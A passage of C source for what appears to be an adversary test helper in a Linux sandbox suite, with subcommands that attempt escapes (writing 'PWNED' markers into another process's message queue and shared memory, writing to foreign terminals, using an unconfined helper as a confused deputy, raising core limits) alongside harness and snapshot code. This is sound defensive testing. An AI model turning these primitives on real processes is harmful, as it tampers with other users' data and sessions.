 * reads /proc/PID/limits from outside.  A core_pattern pipe helper runs as
 * root outside every confinement; the step must not be able to enable it.
 */
static int cmd_core_raise(int argc, char **argv)
{
	struct rlimit was, inf = { RLIM_INFINITY, RLIM_INFINITY }, up;
	char buf[64];
	pid_t pid;
	int r, fd;

	if (argc != 1)
		return usage_error("core-raise PIDFILE");
	if (getrlimit(RLIMIT_CORE, &was) < 0)
		return refused("getrlimit(RLIMIT_CORE)");
	note("RLIMIT_CORE soft %llu hard %llu", (unsigned long long)was.rlim_cur,
	     (unsigned long long)was.rlim_max);
	reach("setrlimit(RLIMIT_CORE, unlimited)");
	if (setrlimit(RLIMIT_CORE, &inf) == 0) {
		r = ok("setrlimit(RLIMIT_CORE, unlimited)");
	} else {
		r = refused("setrlimit(RLIMIT_CORE, unlimited)");
		up.rlim_cur = up.rlim_max = was.rlim_max;
		if (was.rlim_max != was.rlim_cur) {
			if (setrlimit(RLIMIT_CORE, &up) == 0)
				r = ok("setrlimit(RLIMIT_CORE, soft to hard %llu)", (unsigned long long)up.rlim_max);
			else
				refused("setrlimit(RLIMIT_CORE, soft to hard)");
		}
	}
	pid = fork();
	if (pid < 0)
		return refused("fork");
	if (pid == 0) {
		int nul = open("/dev/null", O_RDWR | O_CLOEXEC);

		if (nul >= 0) {
			dup2(nul, 0);
			dup2(nul, 1);
			dup2(nul, 2);
		}
		setsid();
		sleep_ms(30000);
		_exit(0);
	}
	snprintf(buf, sizeof(buf), "%d\n", (int)pid);
	fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || write_all(fd, buf, strlen(buf)) < 0)
		refused("write %s", argv[0]);
	if (fd >= 0)
		close(fd);
	return r;
}

/*
 * Another process's System V queue and segment, by key and, failing that,
 * by id (a private IPC namespace hides the key; the id is a guess the
 * step can always make).  KEYFILE holds "ready MSQID SHMID MSGKEY SHMKEY".
 */
static bool read_ipc_ids(const char *file, int *msqid, int *shmid, key_t *mk, key_t *sk)
{
	FILE *f = fopen(file, "re");
	bool got;

	if (!f)
		return false;
	got = fscanf(f, "%*s %d %d %i %i", msqid, shmid, mk, sk) == 4;
	fclose(f);
	return got;
}

struct sg_msg {
	long mtype;
	char text[64];
};

static int cmd_ipc_attack(int argc, char **argv)
{
	struct sg_msg m = { 1, "PWNED-IPC" };
	int msqid, shmid, id, landed = 0;
	key_t mk, sk;
	void *p;

	if (argc != 1 || !read_ipc_ids(argv[0], &msqid, &shmid, &mk, &sk))
		return usage_error("ipc-attack KEYFILE (ready MSQID SHMID MSGKEY SHMKEY)");
	id = msgget(mk, 0);
	if (id < 0) {
		refused("msgget(0x%x)", (unsigned)mk);
		id = msqid;
	}
	reach("msgsnd(%d)", id);
	if (msgsnd(id, &m, strlen(m.text) + 1, IPC_NOWAIT) == 0)
		landed += !ok("msgsnd(%d)", id);
	else
		refused("msgsnd(%d)", id);
	id = shmget(sk, 0, 0);
	if (id < 0) {
		refused("shmget(0x%x)", (unsigned)sk);
		id = shmid;
	}
	reach("shmat(%d), write", id);
	p = shmat(id, NULL, 0);
	if (p == (void *)-1) {
		refused("shmat(%d)", id);
	} else {
		memcpy(p, "PWNED-SHM", 10);
		landed += !ok("shmat(%d), wrote PWNED-SHM", id);
		shmdt(p);
	}
	if (!landed) {
		errno = EPERM;
		return refused("neither the queue nor the segment was reached");
	}
	return 0;
}

/* The step's own queue and segment: they must work; OUT says "ipc-ok". */
static int cmd_ipc_own(int argc, char **argv)
{
	struct sg_msg m = { 1, "own message" }, got = { 0, "" };
	int q, s;
	char *p;
	bool good;

	if (argc != 1)
		return usage_error("ipc-own OUT");
	q = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
	if (q < 0)
		return refused("msgget(IPC_PRIVATE)");
	good = msgsnd(q, &m, strlen(m.text) + 1, IPC_NOWAIT) == 0;
	if (!good)
		refused("msgsnd(%d)", q);
	good = good && msgrcv(q, &got, sizeof(got.text), 1, IPC_NOWAIT) > 0 &&
	       strcmp(got.text, m.text) == 0;
	msgctl(q, IPC_RMID, NULL);
	if (!good) {
		errno = errno ? errno : EIO;
		return refused("own message queue %d", q);
	}
	ok("msgget, msgsnd, msgrcv on the step's own queue");
	s = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
	if (s < 0)
		return refused("shmget(IPC_PRIVATE)");
	p = shmat(s, NULL, 0);
	shmctl(s, IPC_RMID, NULL);
	if (p == (void *)-1)
		return refused("shmat(%d)", s);
	strcpy(p, "own segment");
	good = strcmp(p, "own segment") == 0;
	shmdt(p);
	if (!good) {
		errno = EIO;
		return refused("own segment %d", s);
	}
	ok("shmget, shmat on the step's own segment");
	return create_file(argv[0], "ipc-ok\n");
}

static int cmd_mq_unlink(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("mq-unlink /NAME");
	reach("mq_unlink(%s)", argv[0]);
	if (mq_unlink(argv[0]) < 0)
		return refused("mq_unlink(%s)", argv[0]);
	return ok("mq_unlink(%s)", argv[0]);
}

static int cmd_mq_create(int argc, char **argv)
{
	mqd_t q;

	if (argc != 1)
		return usage_error("mq-create /NAME");
	reach("mq_open(%s, O_CREAT|O_EXCL)", argv[0]);
	q = mq_open(argv[0], O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0644, NULL);
	if (q == (mqd_t)-1)
		return refused("mq_open(%s, O_CREAT|O_EXCL)", argv[0]);
	mq_close(q);
	return ok("mq_open(%s, O_CREAT|O_EXCL)", argv[0]);
}

/* Write DATA to a terminal that is not ours (PATH or @FILE naming it). */
static int cmd_pty_write(int argc, char **argv)
{
	char buf[PATH_MAX];
	const char *path;
	int fd, r;

	if (argc != 2)
		return usage_error("pty-write PATH|@FILE DATA");
	path = word_arg(argv[0], buf, sizeof(buf));
	if (path[0] != '/')
		return usage_error("pty-write: no terminal path");
	reach("open(%s, O_WRONLY)", path);
	fd = open(path, O_WRONLY | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_WRONLY)", path);
	r = append_fd(fd, path, argv[1]);
	close(fd);
	return r;
}

/* A pty pair of the step's own: what the slave writes, the master reads. */
static int cmd_pty_own(int argc, char **argv)
{
	char buf[64];
	const char *sn;
	ssize_t n;
	int m, s;

	if (argc != 1)
		return usage_error("pty-own OUT");
	m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0)
		return refused("posix_openpt");
	sn = ptsname(m);
	s = sn ? open(sn, O_RDWR | O_NOCTTY | O_CLOEXEC) : -1;
	if (s < 0)
		return refused("open(%s)", sn ? sn : "ptsname");
	if (write_all(s, "own-pty\n", 8) < 0)
		return refused("write(%s)", sn);
	n = read(m, buf, sizeof(buf) - 1);
	if (n < 0)
		return refused("read(master)");
	buf[n] = '\0';
	close(s);
	close(m);
	/* ONLCR: "\n" comes back as "\r\n". */
	if (strncmp(buf, "own-pty", 7) != 0) {
		errno = EIO;
		return refused("the master read \"%s\"", buf);
	}
	ok("wrote %s, read it back on the master", sn);
	return create_file(argv[0], "pty-ok\n");
}

#ifndef FS_IOC_GETFSLABEL
#define FS_IOC_GETFSLABEL _IOR(0x94, 49, char[256])
#define FS_IOC_SETFSLABEL _IOW(0x94, 50, char[256])
#endif

/* The only file system these ioctls may ever touch: the harness's scratch ext4. */
#define SCRATCH_LABEL "sg-adv-scratch"

/*
 * A file-system-wide ioctl through a read-only descriptor of DIR (the
 * root of the harness's loop-mounted scratch ext4, inside the work dir):
 * setlabel LABEL, freeze, thaw.  Refuses to act unless DIR's file system
 * carries the scratch label, so that no run, confined or not, can
 * relabel or freeze a file system of the host.
 */
static int cmd_fs_ioctl(int argc, char **argv)
{
	char label[256] = "", want[256] = "";
	int fd, r;

	if (argc < 2 || argc > 3 || (strcmp(argv[0], "setlabel") == 0) != (argc == 3))
		return usage_error("fs-ioctl setlabel DIR LABEL | freeze DIR | thaw DIR");
	fd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return refused("open(%s, O_RDONLY)", argv[1]);
	if (ioctl(fd, FS_IOC_GETFSLABEL, label) < 0 || strcmp(label, SCRATCH_LABEL) != 0) {
		close(fd);
		return usage_error("fs-ioctl: DIR is not on the scratch file system (label " SCRATCH_LABEL ")");
	}
	reach("%s(%s)", argv[0], argv[1]);
	if (strcmp(argv[0], "setlabel") == 0) {
		snprintf(want, sizeof(want), "%s", argv[2]);
		r = ioctl(fd, FS_IOC_SETFSLABEL, want) < 0 ? refused("FS_IOC_SETFSLABEL(%s, %s)", argv[1], want)
							    : ok("FS_IOC_SETFSLABEL(%s, %s)", argv[1], want);
	} else if (strcmp(argv[0], "freeze") == 0) {
		r = ioctl(fd, FIFREEZE, 0) < 0 ? refused("FIFREEZE(%s)", argv[1]) : ok("FIFREEZE(%s)", argv[1]);
	} else if (strcmp(argv[0], "thaw") == 0) {
		r = ioctl(fd, FITHAW, 0) < 0 ? refused("FITHAW(%s)", argv[1]) : ok("FITHAW(%s)", argv[1]);
	} else {
		r = usage_error("fs-ioctl setlabel|freeze|thaw");
	}
	close(fd);
	return r;
}

/* ------------------------------------------------------------------ */
/* Harness helpers (run outside stepguard)                              */

/* Run CMD on a new pseudo-terminal (its controlling tty); copy its output. */
static int cmd_pty_run(int argc, char **argv)
{
	int m, st;
	pid_t pid;
	char buf[4096];

	if (argc < 1)
		return usage_error("pty-run CMD...");
	m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0)
		return refused("posix_openpt");
	pid = fork();
	if (pid < 0)
		return refused("fork");
	if (pid == 0) {
		const char *sn = ptsname(m);
		int s;

		setsid();
		s = sn ? open(sn, O_RDWR) : -1;
		if (s < 0 || ioctl(s, TIOCSCTTY, 0) < 0)
			_exit(126);
		dup2(s, 0);
		dup2(s, 1);
		dup2(s, 2);
		if (s > 2)
			close(s);
		execvp(argv[0], argv);
		_exit(127);
	}
	for (;;) {
		ssize_t n = read(m, buf, sizeof(buf));

		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			break;
		write_all(1, buf, (size_t)n);
	}
	while (waitpid(pid, &st, 0) < 0 && errno == EINTR)
		;
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/* The unconfined stand-in for stepguard: a parent that forks CMD and waits. */
static int cmd_victim(int argc, char **argv)
{
	pid_t pid;
	int st;

	if (argc < 1)
		return usage_error("victim CMD...");
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
	pid = fork();
	if (pid < 0)
		return refused("fork");
	if (pid == 0) {
		execvp(argv[0], argv);
		_exit(127);
	}
	while (waitpid(pid, &st, 0) < 0)
		if (errno != EINTR)
			return 1;
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

static socklen_t unix_addr(const char *name, struct sockaddr_un *sa)
{
	size_t l = strlen(name);

	memset(sa, 0, sizeof(*sa));
	sa->sun_family = AF_UNIX;
	if (l >= sizeof(sa->sun_path))
		l = sizeof(sa->sun_path) - 1;
	memcpy(sa->sun_path, name, l);
	if (name[0] == '@')
		sa->sun_path[0] = '\0'; /* abstract */
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + l + (name[0] != '@'));
}

/*
 * An unconfined process that creates whatever path it is sent: the kind
 * of helper (a user's service, an agent) a step must not reach.
 */
static int cmd_deputy_serve(int argc, char **argv)
{
	struct sockaddr_un sa;
	socklen_t sl;
	int s;

	if (argc != 1)
		return usage_error("deputy-serve @ABSTRACT|PATH");
	sl = unix_addr(argv[0], &sa);
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sl) < 0 || listen(s, 8) < 0)
		return refused("listen on %s", argv[0]);
	note("ready");
	for (;;) {
		char path[PATH_MAX];
		ssize_t n;
		int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);

		if (c < 0)
			continue;
		n = read(c, path, sizeof(path) - 1);
		if (n > 0) {
			path[n] = '\0';
			path[strcspn(path, "\n")] = '\0';
			if (create_file(path, "PWNED-DEPUTY\n") == 0)
				write_all(c, "created\n", 8);
			else
				write_all(c, "failed\n", 7);
		}
		close(c);
	}
}

static int cmd_deputy_ask(int argc, char **argv)
{
	struct sockaddr_un sa;
	char reply[64];
	socklen_t sl;
	ssize_t n;
	int s;

	if (argc != 2)
		return usage_error("deputy-ask @ABSTRACT|PATH PATH-TO-CREATE");
	sl = unix_addr(argv[0], &sa);
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return refused("socket");
	reach("connect(%s), ask for %s", argv[0], argv[1]);
	if (connect(s, (struct sockaddr *)&sa, sl) < 0)
		return refused("connect(%s)", argv[0]);
	ok("connect(%s)", argv[0]);
	write_all(s, argv[1], strlen(argv[1]));
	shutdown(s, SHUT_WR);
	n = read(s, reply, sizeof(reply) - 1);
	reply[n < 0 ? 0 : n] = '\0';
	close(s);
	if (strncmp(reply, "created", 7) != 0) {
		errno = EPERM;
		return refused("the deputy did not create %s", argv[1]);
	}
	return ok("the deputy created %s", argv[1]);
}

/*
 * An outside process of the step's user holding secrets the step must not
 * read: SG_ADV_SECRET in its environment (set by the harness), ARGSECRET
 * in its command line, and MEMSECRET as the name of a memfd mapped into
 * its memory (so in its maps) and as the content of that mapping.
 */
static int cmd_hold(int argc, char **argv)
{
	char *p;
	int fd;

	if (argc != 2)
		return usage_error("hold ARGSECRET MEMSECRET");
	fd = memfd_create(argv[1], MFD_CLOEXEC);
	if (fd < 0 || ftruncate(fd, 4096) < 0)
		return refused("memfd_create(%s)", argv[1]);
	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED)
		return refused("mmap");
	snprintf(p, 4096, "%s", argv[1]);
	note("ready");
	for (;;)
		pause();
}

/*
 * A UTS namespace of the harness's own, for the case on /proc/sys: enter
 * a new one, set its domainname to NAME, print "ready", wait.  A write to
 * /proc/sys/kernel/domainname made in it changes its name only, so the
 * unconfined run that proves such a write lands leaves the host's alone.
 */
static int cmd_uts_hold(int argc, char **argv)
{
	if (argc != 1)
		return usage_error("uts-hold NAME");
	if (unshare(CLONE_NEWUTS) < 0)
		return refused("unshare(CLONE_NEWUTS)");
	if (setdomainname(argv[0], strlen(argv[0])) < 0)
		return refused("setdomainname(%s)", argv[0]);
	note("ready");
	for (;;)
		pause();
}

/* Run CMD in the UTS namespace of process PID (a uts-hold). */
static int cmd_uts_enter(int argc, char **argv)
{
	char p[64];
	pid_t pid;
	int fd;

	if (argc < 2 || !parse_pid_arg(argv[0], &pid))
		return usage_error("uts-enter PID CMD...");
	snprintf(p, sizeof(p), "/proc/%d/ns/uts", (int)pid);
	fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || setns(fd, CLONE_NEWUTS) < 0)
		return refused("setns(%s)", p);
	close(fd);
	execvp(argv[1], argv + 1);
	return refused("exec %s", argv[1]);
}

/*
 * A pty pair whose slave this outside process holds, as a user's terminal
 * is held by its shell: prints "ready /dev/pts/N", then copies whatever
 * the master reads (what anyone wrote to the slave) to standard output.
 */
static int cmd_pty_hold(int argc, char **argv)
{
	char buf[4096];
	const char *sn;
	int m, s;

	(void)argv;
	if (argc != 0)
		return usage_error("pty-hold");
	m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0 || !(sn = ptsname(m)))
		return refused("posix_openpt");
	s = open(sn, O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (s < 0)
		return refused("open(%s)", sn);
	note("ready %s", sn);
	for (;;) {
		ssize_t n = read(m, buf, sizeof(buf));

		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return 0;
		write_all(1, buf, (size_t)n);
	}
}

/*
 * An outside process's System V message queue (empty) and shared memory
 * segment (holding "intact"), owner-only: prints
 * "ready MSQID SHMID MSGKEY SHMKEY" and waits.  ipc-rm removes them: they
 * outlive this process.
 */
static int cmd_ipc_hold(int argc, char **argv)
{
	key_t mk = 0, sk = 0;
	int q = -1, s = -1;
	char *p;

	(void)argv;
	if (argc != 0)
		return usage_error("ipc-hold");
	for (unsigned i = 0; i < 64 && q < 0; i++) {
		mk = (key_t)(0x53470000U | (((unsigned)getpid() + i * 7919U) & 0xffffU));
		q = msgget(mk, IPC_CREAT | IPC_EXCL | 0600);
	}
	if (q < 0)
		return refused("msgget(IPC_CREAT)");
	for (unsigned i = 0; i < 64 && s < 0; i++) {
		sk = (key_t)(0x53480000U | (((unsigned)getpid() + i * 7919U) & 0xffffU));
		s = shmget(sk, 4096, IPC_CREAT | IPC_EXCL | 0600);
	}
	if (s < 0) {
		msgctl(q, IPC_RMID, NULL);
		return refused("shmget(IPC_CREAT)");
	}
	p = shmat(s, NULL, 0);
	if (p == (void *)-1)
		return refused("shmat(%d)", s);
	strcpy(p, "intact");
	note("ready %d %d 0x%x 0x%x", q, s, (unsigned)mk, (unsigned)sk);
	for (;;)
		pause();
}

/* What the outside process sees of its queue and segment: "qnum=N shm=TEXT". */
static int cmd_ipc_look(int argc, char **argv)
{
	struct msqid_ds qs;
	int msqid, shmid;
	key_t mk, sk;
	char *p;

	if (argc != 1 || !read_ipc_ids(argv[0], &msqid, &shmid, &mk, &sk))
		return usage_error("ipc-look KEYFILE");
	if (msgctl(msqid, IPC_STAT, &qs) < 0)
		return refused("msgctl(%d, IPC_STAT)", msqid);
	p = shmat(shmid, NULL, SHM_RDONLY);
	if (p == (void *)-1)
		return refused("shmat(%d)", shmid);
	printf("qnum=%lu shm=%.32s\n", (unsigned long)qs.msg_qnum, p);
	shmdt(p);
	return 0;
}

static int cmd_ipc_rm(int argc, char **argv)
{
	int msqid, shmid;
	key_t mk, sk;

	if (argc != 1 || !read_ipc_ids(argv[0], &msqid, &shmid, &mk, &sk))
		return usage_error("ipc-rm KEYFILE");
	msgctl(msqid, IPC_RMID, NULL);
	shmctl(shmid, IPC_RMID, NULL);
	return 0;
}

/* The harness's view of a POSIX message queue: create, exists (0 yes, 1 no), unlink. */
static int cmd_mq(int argc, char **argv)
{
	mqd_t q;

	if (argc != 2)
		return usage_error("mq create|exists|unlink /NAME");
	if (strcmp(argv[0], "create") == 0) {
		q = mq_open(argv[1], O_RDONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644, NULL);
		if (q == (mqd_t)-1)
			return refused("mq_open(%s, O_CREAT|O_EXCL)", argv[1]);
		mq_close(q);
		return 0;
	}
	if (strcmp(argv[0], "exists") == 0) {
		q = mq_open(argv[1], O_RDONLY | O_CLOEXEC);
		if (q == (mqd_t)-1)
			return errno == ENOENT ? 1 : refused("mq_open(%s)", argv[1]);
		mq_close(q);
		return 0;
	}
	if (strcmp(argv[0], "unlink") == 0)
		return mq_unlink(argv[1]) < 0 && errno != ENOENT ? refused("mq_unlink(%s)", argv[1]) : 0;
	return usage_error("mq create|exists|unlink /NAME");
}

/*
 * The harness's side of the scratch file system: its label, printed;
 * freeze; thaw (status 0 only if it was frozen).  Only on the scratch
 * file system, as fs-ioctl.
 */
static int cmd_fs_state(int argc, char **argv)
{
	char label[256] = "";
	int fd, r = 0;

	if (argc != 2)
		return usage_error("fs-state label|freeze|thaw DIR");
	fd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0 || ioctl(fd, FS_IOC_GETFSLABEL, label) < 0)
		return refused("FS_IOC_GETFSLABEL(%s)", argv[1]);
	if (strcmp(argv[0], "label") == 0) {
		printf("%s\n", label);
	} else if (strcmp(label, SCRATCH_LABEL) != 0) {
		r = usage_error("fs-state: DIR is not on the scratch file system");
	} else if (strcmp(argv[0], "freeze") == 0) {
		r = ioctl(fd, FIFREEZE, 0) < 0 ? refused("FIFREEZE(%s)", argv[1]) : 0;
	} else if (strcmp(argv[0], "thaw") == 0) {
		r = ioctl(fd, FITHAW, 0) < 0 ? refused("FITHAW(%s)", argv[1]) : 0;
	} else {
		r = usage_error("fs-state label|freeze|thaw DIR");
	}
	close(fd);
	return r;
}

/*
 * A storm of refusals, for the ring-buffer row of the fail-closed matrix
 * (tests/vm/t/61-failclosed-bpf.sh): N creates of OUTDIR/f<pid>-<i>, each
 * of which the filter must refuse, and after every 100 of them a control
 * create in CTRLDIR, which must land.  Prints one line the harness parses:
 *   flood: tried N refused R landed L control_ok C control_failed F
 * Exit status 0 when every create was refused and every control landed.
 */
static int cmd_flood(int argc, char **argv)
{
	long n, refusedn = 0, landed = 0, ctl_ok = 0, ctl_failed = 0;
	char path[PATH_MAX];
	int fd;

	if (argc != 3 || !parse_long(argv[2], &n) || n < 1)
		return usage_error("flood OUTDIR CTRLDIR N");
	for (long i = 0; i < n; i++) {
		snprintf(path, sizeof(path), "%s/f%ld-%ld", argv[0], (long)getpid(), i);
		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd < 0) {
			refusedn++;
		} else {
			landed++;
			close(fd);
		}
		if (i % 100 != 99)
			continue;
		snprintf(path, sizeof(path), "%s/c%ld-%ld", argv[1], (long)getpid(), i / 100);
		fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
		if (fd >= 0 && write_all(fd, "control\n", 8) == 0) {
			ctl_ok++;
		} else {
			ctl_failed++;
			printf("adversary flood: control %s: %s\n", path, strerror(errno));
		}
		if (fd >= 0)
			close(fd);
	}
	printf("flood: tried %ld refused %ld landed %ld control_ok %ld control_failed %ld\n", n, refusedn,
	       landed, ctl_ok, ctl_failed);
	fflush(stdout);
	return landed == 0 && ctl_failed == 0 ? 0 : 1;
}

/* Create DIR/d/d/.../d (N levels) and a file at the bottom. */
static int cmd_deep_tree(int argc, char **argv)
{
	long n;
	int dfd;

	if (argc != 2 || !parse_long(argv[1], &n) || n < 1)
		return usage_error("deep-tree DIR N");
	dfd = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0)
		return refused("open(%s)", argv[0]);
	for (long i = 0; i < n; i++) {
		int nd;

		if (mkdirat(dfd, "d", 0755) < 0)
			return refused("mkdirat(level %ld)", i + 1);
		nd = openat(dfd, "d", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (nd < 0)
			return refused("openat(level %ld)", i + 1);
		close(dfd);
		dfd = nd;
	}
	int fd = openat(dfd, "leaf", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	if (fd < 0 || write_all(fd, "leaf\n", 5) < 0)
		return refused("create the leaf");
	close(fd);
	close(dfd);
	return ok("%ld levels under %s, and a leaf", n, argv[0]);
}

/* ------------------------------------------------------------------ */
/* Snapshots: how the harness judges, from outside                      */

static uint64_t fnv_fd(int fd)
{
	uint64_t h = 1469598103934665603ULL;
	unsigned char buf[65536];
	ssize_t n;

	while ((n = read(fd, buf, sizeof(buf))) > 0)
		for (ssize_t i = 0; i < n; i++)
			h = (h ^ buf[i]) * 1099511628211ULL;
	return h;
}

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/*
 * One line for PATH (never following a final symlink): type, mode, owner,
 * size, mtime, ctime, links, inode, content hash or link target, xattrs
 * and inode flags.  Anything a write could change, except atime.
 */
static void snap_line(FILE *out, const char *path, const char *label)
{
	struct stat st;
	char type;

	if (lstat(path, &st) < 0) {
		fprintf(out, "%s\tabsent\n", label);
		return;
	}
	type = S_ISREG(st.st_mode) ? 'f' : S_ISDIR(st.st_mode) ? 'd' : S_ISLNK(st.st_mode) ? 'l' :
	       S_ISFIFO(st.st_mode) ? 'p' : S_ISSOCK(st.st_mode) ? 's' : S_ISCHR(st.st_mode) ? 'c' :
	       S_ISBLK(st.st_mode) ? 'b' : '?';
	fprintf(out, "%s\t%c mode=%04o uid=%u gid=%u size=%lld mtime=%lld.%09ld ctime=%lld.%09ld "
		"nlink=%lu ino=%lu",
		label, type, (unsigned)(st.st_mode & 07777), (unsigned)st.st_uid, (unsigned)st.st_gid,
		(long long)st.st_size, (long long)st.st_mtim.tv_sec, st.st_mtim.tv_nsec,
		(long long)st.st_ctim.tv_sec, st.st_ctim.tv_nsec, (unsigned long)st.st_nlink,
		(unsigned long)st.st_ino);
	if (type == 'b' || type == 'c')
		fprintf(out, " rdev=%u:%u", major(st.st_rdev), minor(st.st_rdev));
	if (type == 'f' || type == 'd') {
		int fd = open(path, O_RDONLY | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC);

		if (fd >= 0) {
			int flags = 0;

			if (type == 'f')
				fprintf(out, " hash=%016" PRIx64, fnv_fd(fd));
			if (ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0)
				fprintf(out, " flags=%#x", (unsigned)flags);
			close(fd);
		} else {
			fprintf(out, " unreadable=%s", ename(errno));
		}
	} else if (type == 'l') {
		char t[PATH_MAX];
		ssize_t n = readlink(path, t, sizeof(t) - 1);

		t[n < 0 ? 0 : n] = '\0';
		fprintf(out, " target=%s", t);
	}
	char names[8192];
	ssize_t n = llistxattr(path, names, sizeof(names));

	if (n > 0) {
		char *v[256];
		int k = 0;

		for (char *p = names; p < names + n && k < 256; p += strlen(p) + 1)
			v[k++] = p;
		qsort(v, (size_t)k, sizeof(v[0]), cmp_str);
		for (int i = 0; i < k; i++) {
			unsigned char val[512];
			ssize_t vl = lgetxattr(path, v[i], val, sizeof(val));

			fprintf(out, " x:%s=", v[i]);
			for (ssize_t j = 0; j < vl; j++)
				fprintf(out, "%02x", val[j]);
		}
	}
	fputc('\n', out);
}

static int cmd_snapshot(int argc, char **argv)
{
	if (argc < 1)
		return usage_error("snapshot PATH...");
	for (int i = 0; i < argc; i++)
		snap_line(stdout, argv[i], argv[i]);
	return 0;
}

static struct {
	char **lines;
	size_t n, cap;
	const char *root;
	char **excl;
	int n_excl;
} tree;

static int tree_visit(const char *path, const struct stat *sb, int flag, struct FTW *ftw)
{
	char *line = NULL;
	size_t len = 0;
	const char *rel = path + strlen(tree.root);
	FILE *f;

	(void)sb;
	(void)flag;
	(void)ftw;
	if (*rel == '\0')
		rel = ".";
	for (int i = 0; i < tree.n_excl; i++)
		if (strcmp(path, tree.excl[i]) == 0) {
			struct stat st;

			/* Only its identity: what the step does inside is not our concern. */
			f = open_memstream(&line, &len);
			if (lstat(path, &st) == 0)
				fprintf(f, "%s\tEXCLUDED ino=%lu type=%o\n", rel, (unsigned long)st.st_ino,
					(unsigned)(st.st_mode & S_IFMT));
			fclose(f);
			goto add_skip;
		}
	f = open_memstream(&line, &len);
	snap_line(f, path, rel);
	fclose(f);
	if (tree.n == tree.cap) {
		tree.cap = tree.cap ? tree.cap * 2 : 256;
		tree.lines = realloc(tree.lines, tree.cap * sizeof(char *));
	}
	tree.lines[tree.n++] = line;
	return FTW_CONTINUE;
add_skip:
	if (tree.n == tree.cap) {
		tree.cap = tree.cap ? tree.cap * 2 : 256;
		tree.lines = realloc(tree.lines, tree.cap * sizeof(char *));
	}
	tree.lines[tree.n++] = line;
	return FTW_SKIP_SUBTREE;
}

/* Every entry under DIR (not following symlinks), sorted; EXCL... summarised. */
static int cmd_snaptree(int argc, char **argv)
{
	if (argc < 1)
		return usage_error("snaptree DIR [EXCLUDE...]");
	tree.root = argv[0];
	tree.excl = argv + 1;
	tree.n_excl = argc - 1;
	if (nftw(argv[0], tree_visit, 64, FTW_PHYS | FTW_ACTIONRETVAL) < 0)
		return refused("nftw(%s)", argv[0]);
	qsort(tree.lines, tree.n, sizeof(char *), cmp_str);
	for (size_t i = 0; i < tree.n; i++)
		fputs(tree.lines[i], stdout);
	return 0;
}

/*
 * tree OP:ARG...: the harness's fresh tree in one process (the suite also
 * runs in software-emulated VMs, where every exec is expensive).  Not an
 * attack; run outside stepguard.  In order:
 *   rm:PATH          remove PATH and everything beneath it (no symlink is
 *                    followed, a missing PATH is fine)
 *   d:PATH           mkdir -p
 *   f:PATH=TEXT      write TEXT and a newline, mode 0644 whatever the umask
 *   t:PATH=EPOCH     atime and mtime, without following a symlink
 *   x:PATH=NAME=VAL  setxattr; a file system without user xattrs is no error
 *                    (the cases that need them are skipped by their sanity run)
 * Exits 1 at the first other failure, naming it.
 */
static int tree_rm_one(const char *path, const struct stat *st, int flag, struct FTW *f)
{
	(void)st;
	(void)f;
	if ((flag == FTW_DP ? rmdir(path) : unlink(path)) < 0 && errno != ENOENT) {
		fprintf(stderr, "adversary tree: remove %s: %s\n", path, strerror(errno));
		return 1;
	}
	return 0;
}

static int tree_mkdir_p(char *path)
{
	for (char *p = path + 1;; p++) {
		if (*p != '/' && *p != '\0')
			continue;
		char c = *p;

		*p = '\0';
		if (mkdir(path, 0755) < 0 && errno != EEXIST)
			return -1;
		*p = c;
		if (c == '\0')
			return 0;
	}
}

static int cmd_tree(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		char *kind = argv[i], *arg = strchr(kind, ':'), *val;
		int r = 0;

		if (!arg)
			return usage_error("tree OP:ARG... (rm: d: f:PATH=TEXT t:PATH=EPOCH x:PATH=NAME=VAL)");
		*arg++ = '\0';
		val = strchr(arg, '=');
		if (strcmp(kind, "rm") == 0) {
			r = nftw(arg, tree_rm_one, 16, FTW_DEPTH | FTW_PHYS);
			if (r < 0 && errno == ENOENT)
				r = 0;
		} else if (strcmp(kind, "d") == 0) {
			r = tree_mkdir_p(arg);
		} else if (val && strcmp(kind, "f") == 0) {
			int fd;

			*val++ = '\0';
			fd = open(arg, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
